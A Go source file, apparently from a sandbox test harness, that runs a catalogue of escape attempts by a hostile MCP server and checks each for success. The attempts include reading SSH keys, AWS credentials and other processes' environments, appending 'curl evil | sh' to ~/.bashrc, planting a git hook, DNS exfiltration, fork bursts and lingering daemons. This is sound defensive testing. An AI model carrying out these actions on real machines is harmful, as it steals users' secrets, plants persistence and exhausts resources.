package hostile

import (
	"bufio"
	"bytes"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/mcpsandbox/mcpsandbox/internal/harness"
)

// Attempts are every attempt, in the order they are made (the ones that stop or load something
// last). ForkCount is how many processes the fork attempt starts at once.
var Attempts = []Attempt{
	{ID: "read-home-secrets", What: "read ~/.ssh/id_rsa, ~/.aws/credentials, ~/.env (the client's HOME) and a canary outside its dirs",
		Tool: "read_secrets", Args: map[string]any{"paths": []any{"{{home}}/.ssh/id_rsa", "{{home}}/.aws/credentials", "{{home}}/.env", "{{canary}}"}},
		Escaped: leaked("the canary nonce", func(o *Observed) string { return o.A.Nonce })},
	{ID: "dump-env", What: "return its whole environment (the client's API key among it)", Tool: "dump_env",
		Escaped: leaked("the client's secret variable", func(o *Observed) string { return o.A.Secret })},
	{ID: "read-proc", What: "read /proc/PID/environ of another process of the user", Tool: "read_proc",
		Args: map[string]any{"pids": []any{"{{sibling_pid}}"}},
		// the other process's own variable: the server's own ancestors carry the secret too, and
		// reading them is no more than dump-env
		Escaped: leaked("the other process's secret", func(o *Observed) string { return harness.SiblingSecretEnv + "=" + o.A.Secret })},
	{ID: "write-rc", What: "append to the client's ~/.bashrc", Tool: "write_files",
		Args:    map[string]any{"files": []any{map[string]any{"path": "{{home}}/.bashrc", "content": "curl evil | sh # {{tag}}\n", "append": true}}},
		Escaped: changed(func(o *Observed) string { return filepath.Join(o.A.Home, ".bashrc") })},
	{ID: "write-git-hook", What: "plant an executable .git/hooks/pre-commit in the repository it runs in", Tool: "write_files",
		Args:    map[string]any{"files": []any{map[string]any{"path": "{{ws}}/.git/hooks/pre-commit", "content": "#!/bin/sh\necho {{tag}}\n", "mode": 0o755}}},
		Escaped: changed(func(o *Observed) string { return filepath.Join(o.A.WS, ".git", "hooks", "pre-commit") })},
	{ID: "write-outside", What: "write a file outside every dir it was given (a world-writable dir)", Tool: "write_files",
		Args:    map[string]any{"files": []any{map[string]any{"path": "{{outside}}/planted-{{tag}}", "content": "x"}}},
		Escaped: changed(func(o *Observed) string { return filepath.Join(o.A.Outside, "planted-"+o.A.Tag) })},
	{ID: "write-host-tmp", What: "write the host's /tmp", Tool: "write_files",
		Args:    map[string]any{"files": []any{map[string]any{"path": "/tmp/hostile-{{tag}}", "content": "x"}}},
		Escaped: changed(func(o *Observed) string { return filepath.Join(os.TempDir(), "hostile-"+o.A.Tag) })},
	{ID: "connect-tcp", What: "connect to a TCP listener on the host's loopback", Tool: "connect",
		Args:    map[string]any{"tag": "{{tag}}", "targets": []any{map[string]any{"network": "tcp", "address": "127.0.0.1:{{tcp_port}}"}}},
		Escaped: func(o *Observed) (bool, string) { return hits("TCP connection(s)", o.A.TCPHits()) }},
	{ID: "connect-udp", What: "send a UDP datagram to the host's loopback", Tool: "connect",
		Args:    map[string]any{"tag": "{{tag}}", "targets": []any{map[string]any{"network": "udp", "address": "127.0.0.1:{{udp_port}}"}}},
		Escaped: func(o *Observed) (bool, string) { return hits("datagram(s)", o.A.UDPHits()) }},
	{ID: "connect-unix", What: "connect to a unix socket of the host (an agent's)", Tool: "connect",
		Args:    map[string]any{"tag": "{{tag}}", "targets": []any{map[string]any{"network": "unix", "address": "{{unix_sock}}"}}},
		Escaped: func(o *Observed) (bool, string) { return hits("unix connection(s)", o.A.UnixHits()) }},
	{ID: "dns-exfil", What: "resolve a name carrying data through a resolver on the host", Tool: "resolve",
		Args: map[string]any{"tag": "{{tag}}", "names": []any{"{{tag}}.exfil.example"}, "server": "127.0.0.1:{{dns_port}}"},
		Escaped: func(o *Observed) (bool, string) {
			if q := o.A.DNSQueries(); len(q) > 0 {
				return true, "the host's resolver was asked for " + q[0]
			}
			return false, "no tagged query reached the host's resolver"
		}},
	{ID: "listen", What: "listen on a loopback port the host can reach (a hidden second server)", Tool: "listen",
		Args: map[string]any{"address": "127.0.0.1:{{listen_port}}", "tag": "{{tag}}", "hold_ms": 10000}, Escaped: reachable},
	{ID: "signal-sibling", What: "stop (SIGSTOP) another process of the user", Tool: "signal",
		Args: map[string]any{"pids": []any{"{{sibling_pid}}"}, "signal": "STOP"},
		Escaped: func(o *Observed) (bool, string) {
			if h := o.A.SiblingTouchedWithin(2 * time.Second); h != "" {
				return true, "the other process was " + h
			}
			return false, "the other process was untouched"
		}},
	{ID: "fill-disk", What: "write 64 MiB into the repository it runs in", Tool: "fill_disk",
		Args: map[string]any{"path": "{{ws}}/fill-{{tag}}", "bytes": 64 << 20, "tag": "{{tag}}"},
		Escaped: func(o *Observed) (bool, string) {
			fi, err := os.Stat(filepath.Join(o.A.WS, "fill-"+o.A.Tag))
			if err != nil || fi.Size() == 0 {
				return false, "nothing written to the host's disk"
			}
			return true, fmt.Sprintf("%d MiB written to the host's disk", fi.Size()>>20)
		}},
	{ID: "fork", What: fmt.Sprintf("start %d processes at once", ForkCount), Tool: "fork",
		Args: map[string]any{"count": ForkCount, "hold_ms": 5000, "tag": "{{tag}}"},
		Escaped: func(o *Observed) (bool, string) {
			// more than any default pids limit (64), with room for a loaded machine on which the
			// first processes end before the last start
			d := fmt.Sprintf("%d processes at once seen from the host", o.PeakProcs)
			return o.PeakProcs > ForkCount/2, d
		}},
	{ID: "daemon", What: "leave a daemon (double fork, setsid) that outlives the server", Tool: "daemon", AfterExit: true,
		Args: map[string]any{"tag": "{{tag}}", "seconds": 30},
		Escaped: func(o *Observed) (bool, string) {
			deadline := time.Now().Add(3 * time.Second)
			for {
				left := tagged(o.A.Tag)
				if len(left) == 0 {
					return false, "nothing of the server outlived it"
				}
				if time.Now().After(deadline) {
					return true, fmt.Sprintf("pids %v still ran 3s after the client went", left)
				}
				time.Sleep(100 * time.Millisecond)
			}
		}},
}

// ForkCount is how many processes the fork attempt starts (above every default pids limit).
const ForkCount = 200

func leaked(what string, secret func(*Observed) string) func(*Observed) (bool, string) {
	return func(o *Observed) (bool, string) {
		s := secret(o)
		if i := strings.Index(o.Output, s); i >= 0 {
			line := o.Output[max(0, strings.LastIndexByte(o.Output[:i], '\n')+1):i]
			return true, what + " came back after " + strconv.Quote(clip(line, 80))
		}
		return false, "no secret in what came back: " + clip(firstLine(o.Output), 120)
	}
}

func changed(path func(*Observed) string) func(*Observed) (bool, string) {
	return func(o *Observed) (bool, string) {
		p := path(o)
		now, err := os.ReadFile(p)
		was, existed := o.before[p]
		switch {
		case err != nil && !existed:
			return false, "not created on the host: " + clip(firstLine(o.Output), 120)
		case err != nil:
			return true, "removed on the host"
		case !existed:
			return true, "created on the host"
		case !bytes.Equal(now, was):
			return true, "changed on the host"
		}
		return false, "unchanged on the host: " + clip(firstLine(o.Output), 120)
	}
}

func hits(what string, n int64) (bool, string) {
	return n > 0, fmt.Sprintf("%d %s reached the host's listener", n, what)
}

// reachable dials the port the server was told to listen on, from the host.
func reachable(o *Observed) (bool, string) {
	addr := net.JoinHostPort("127.0.0.1", strconv.Itoa(o.ListenPort))
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		return false, "the host cannot reach it: " + err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second)) // a loaded machine: the listener's line can be late
	l, err := bufio.NewReader(c).ReadString('\n')
	if strings.Contains(l, o.A.Tag) {
		return true, "the host reached the server's listener on " + addr
	}
	if err != nil {
		return false, fmt.Sprintf("something accepted on %s but said no line in 5s (%v); the server said: %s", addr, err, clip(firstLine(o.Output), 200))
	}
	return false, fmt.Sprintf("something else answers on %s (%q); the server said: %s", addr, clip(l, 80), clip(firstLine(o.Output), 200))
}

func firstLine(s string) string {
	s, _, _ = strings.Cut(strings.TrimSpace(s), "\n")
	return s
}
